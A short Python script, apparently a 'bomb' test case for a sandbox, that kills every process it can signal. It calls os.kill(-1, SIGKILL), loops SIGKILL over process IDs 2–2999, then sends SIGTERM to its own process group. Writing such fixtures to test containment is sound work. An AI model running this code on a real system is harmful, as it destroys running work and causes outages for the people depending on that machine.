"""Kills every process that it can see.

bomb: yes
"""

import os, signal

os.kill(-1, signal.SIGKILL)
for pid in range(2, 3000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(0, signal.SIGTERM)
except OSError:
    pass
